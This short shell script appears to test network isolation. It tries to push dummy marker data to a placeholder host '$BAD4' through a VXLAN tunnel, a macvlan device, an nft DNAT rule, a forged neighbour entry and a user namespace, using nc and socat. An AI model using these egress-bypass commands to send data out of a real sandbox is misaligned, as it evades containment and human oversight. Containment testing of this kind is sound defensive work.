# Devices and rules of the kernel that carry packets by themselves: for those who may make them.
ip link add vx0 type vxlan id 7 remote "$BAD4" dstport 4789 dev agent0 && ip addr add 198.51.100.2/24 dev vx0 && ip link set vx0 up
printf 'vx-data' | t nc.openbsd -u -w 1 198.51.100.1 9
ip link add mv0 link agent0 type macvlan mode bridge && ip addr add 192.0.2.7/24 dev mv0 && ip link set mv0 up
printf 'mv-data' | t socat -t 0.2 -u - "UDP4-SENDTO:$BAD4:443,so-bindtodevice=mv0"
nft add table ip weapon && nft 'add chain ip weapon out { type nat hook output priority -100 ; }' &&
    nft add rule ip weapon out ip daddr 203.0.113.10 udp dport 444 dnat to "$BAD4:444"
printf 'nat-data' | t nc.openbsd -u -w 1 203.0.113.10 444
# A neighbour of its own making: the packet's frame goes wherever it likes.
ip neigh replace 192.0.2.9 lladdr ff:ff:ff:ff:ff:ff dev agent0
printf 'neigh-data' | t nc.openbsd -u -w 1 192.0.2.9 443
unshare -Urn sh -c "ip link set lo up; printf userns-data | timeout 1 nc.openbsd -u -w 1 $BAD4 443"
wait
